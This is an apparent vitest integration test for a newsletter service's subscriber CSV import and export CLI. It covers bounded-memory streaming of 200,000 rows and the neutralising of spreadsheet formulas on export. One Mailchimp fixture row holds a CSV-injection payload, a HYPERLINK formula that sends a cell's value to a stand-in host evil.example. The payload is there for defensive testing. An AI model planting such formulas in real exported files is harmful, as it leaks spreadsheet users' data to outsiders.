/**
 * Imports at scale and through the CLI:
 * - 200,000 generated rows stream through the import in bounded memory (the heap after a
 *   garbage collection does not grow with the rows read; only a ~30-byte fingerprint per
 *   address is kept), with a store that keeps nothing, so only the import's own memory counts;
 * - `digest subscribers import` and `export` on the local stack (dynalite): a Mailchimp
 *   export with the file's problems reported by line, an export that neutralises formulas,
 *   and a re-import that restores them exactly.
 */
import { createReadStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { environmentCommands } from '../../functions/cli/commands.ts';
import { subscriberIdFor } from '../../functions/core/subscribers/identity.ts';
import { importSubscribers, type ImportProgress } from '../../functions/core/subscribers/import-subscribers.ts';
import type { SubscriberRepository } from '../../functions/core/subscribers/ports.ts';
import type { Subscriber } from '../../functions/core/subscribers/types.ts';
import { subscriberRepository } from '../../functions/wiring/common.ts';
import { localAppEnv } from '../../infra/local/app-env.ts';
import { useStack } from '../../infra/local/local-run.ts';
import { startLocalStack, type LocalStack } from '../../infra/local/stack.ts';

setFlagsFromString('--expose_gc');
const gc = runInNewContext('gc') as () => void;

/** A store that counts and keeps nothing. */
class CountingSink implements SubscriberRepository {
  public puts = 0;
  public async get(): Promise<Subscriber | undefined> {
    return undefined;
  }
  public async getMany(): Promise<Map<string, Subscriber>> {
    return new Map();
  }
  public async put(): Promise<void> {
    this.puts += 1;
  }
  public async setStatus(): Promise<boolean> {
    return false;
  }
  public async pageSegment(): Promise<{ subscribers: Subscriber[] }> {
    return { subscribers: [] };
  }
  public async countSegment(): Promise<number> {
    return 0;
  }
  public async pageAll(): Promise<{ subscribers: Subscriber[] }> {
    return { subscribers: [] };
  }
  public async update(): Promise<Subscriber | undefined> {
    return undefined;
  }
}

/** Runs one environment command in this process and captures what it writes. */
async function cli(args: string[], options: Record<string, string | boolean> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const out = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => ((stdout += String(chunk)), true));
  const err = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => ((stderr += String(chunk)), true));
  try {
    const [name = '', ...rest] = args;
    const code = await environmentCommands[name]!(rest, { quiet: true, ...options });
    return { code, stdout, stderr };
  } finally {
    out.mockRestore();
    err.mockRestore();
  }
}

describe('Integration: subscriber imports', () => {
  let work: string;
  let stack: LocalStack;

  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'subscribers-import-'));
    stack = await startLocalStack({ forwardToMailbox: false });
    useStack(localAppEnv(stack, { httpPort: 3000, logLevel: 'SILENT' }));
  }, 120_000);

  afterAll(async () => {
    await stack?.stop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('streams 200,000 rows in bounded memory', async () => {
    // Prepare: a 200,000-row file of our format, with a bad row every 10,000 lines.
    const rows = 200_000;
    const file = join(work, 'large.csv');
    const lines = ['email,name,newsletter,alerts,keywords'];
    for (let i = 0; i < rows; i += 1) {
      lines.push(i % 10_000 === 5 ? `broken-${i},Reader,daily,none,` : `reader${i}@example.org,Reader Number,daily,hourly,energy;climate;Armenia`);
    }
    await writeFile(file, `${lines.join('\n')}\n`);
    lines.length = 0;
    const sink = new CountingSink();
    const heap: number[] = [];
    let nextSample = 20_000;
    const sample = (p: ImportProgress): void => {
      if (p.rows < nextSample) return;
      nextSample += 20_000;
      gc();
      heap.push(process.memoryUsage().heapUsed);
    };

    // Act
    const result = await importSubscribers(sink, createReadStream(file), { now: new Date(), onProgress: sample });

    // Assess
    expect(result.imported).toBe(rows - 20);
    expect(result.skipped).toBe(20);
    expect(result.errors[0]).toEqual({ line: 7, reason: 'email: not a valid address' });
    expect(sink.puts).toBe(rows - 20);
    expect(heap.length).toBeGreaterThanOrEqual(9);
    // From the first sample (20,000 rows) to the last (200,000): the 180,000 rows read in between
    // would take well over 50 MB if they were kept; the fingerprints take ~6 MB.
    const growth = Math.max(...heap.slice(1)) - heap[0]!;
    expect(growth).toBeLessThan(16 * 1024 * 1024);
  }, 180_000);

  it('digest subscribers import and export: a Mailchimp export in, formulas neutralised out, restored on re-import', async () => {
    // Prepare: a Mailchimp "subscribed" export (first lines of a real one's columns), one bad row.
    const mailchimp = join(work, 'subscribed_members_export.csv');
    await writeFile(mailchimp, [
      '"Email Address","First Name","Last Name","MEMBER_RATING","OPTIN_TIME","OPTIN_IP","CONFIRM_TIME","CONFIRM_IP","LATITUDE","LONGITUDE","GMTOFF","DSTOFF","TIMEZONE","CC","REGION","LAST_CHANGED","LEID","EUID","NOTES"',
      '"mc-ann@example.org","Ann","Lee",2,"2024-01-01 10:00:00",,"2024-01-01 10:01:00",,,,,,,,,"2024-02-01 00:00:00",1,abc,',
      '"not-an-address","Bad","Row",2,,,,,,,,,,,,,2,def,',
      '"mc-eve@example.org","=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","",2,,,,,,,,,,,,,3,ghi,',
      '',
    ].join('\n'));

    // Act 1
    const imported = await cli(['subscribers', 'import', mailchimp], { newsletter: 'weekly' });

    // Assess 1
    expect(imported.code).toBe(0);
    expect(JSON.parse(imported.stdout)).toEqual({ format: 'mailchimp', imported: 2, skipped: 1, warnings: 1 });
    expect(imported.stderr).toContain(`${mailchimp}: line 3: email: not a valid address (skipped)`);
    expect(imported.stderr).toMatch(new RegExp(`line 4: name: .* \\(imported without the name\\)`));
    expect(await subscriberRepository().get(subscriberIdFor('mc-ann@example.org'))).toMatchObject({ name: 'Ann Lee', newsletter: 'weekly', status: 'confirmed' });

    // Act 2: a subscriber stored before the input rules (as an old record may be), exported.
    await subscriberRepository().put({
      id: subscriberIdFor('-old@example.org'), email: '-old@example.org', name: '@SUM(1)', status: 'confirmed', newsletter: 'daily',
      alerts: 'daily', keywords: ['=1+1', 'energy'], createdAt: 't', updatedAt: 't',
    });
    const exported = await cli(['subscribers', 'export']);

    // Assess 2: no cell starts a formula.
    expect(exported.code).toBe(0);
    expect(exported.stdout).toContain(`'-old@example.org,'@SUM(1),daily,daily,'=1+1;energy,confirmed,,\n`);
    expect(exported.stdout.split('\n').some((l) => /(^|,)"?[=+\-@]/.test(l))).toBe(false);

    // Act 3: the export imported again (the old keyword now breaks the keyword rule: reported).
    const file = join(work, 'export.csv');
    await writeFile(file, exported.stdout);
    const again = await cli(['subscribers', 'import', file]);

    // Assess 3
    expect(JSON.parse(again.stdout)).toMatchObject({ format: 'news-digest', imported: 2, skipped: 1 });
    expect(again.stderr).toMatch(/line \d+: keywords: a keyword holds a character it may not hold \(U\+003D\)/);
    expect(await subscriberRepository().get(subscriberIdFor('mc-ann@example.org'))).toMatchObject({ name: 'Ann Lee', status: 'confirmed' });
  }, 120_000);
});
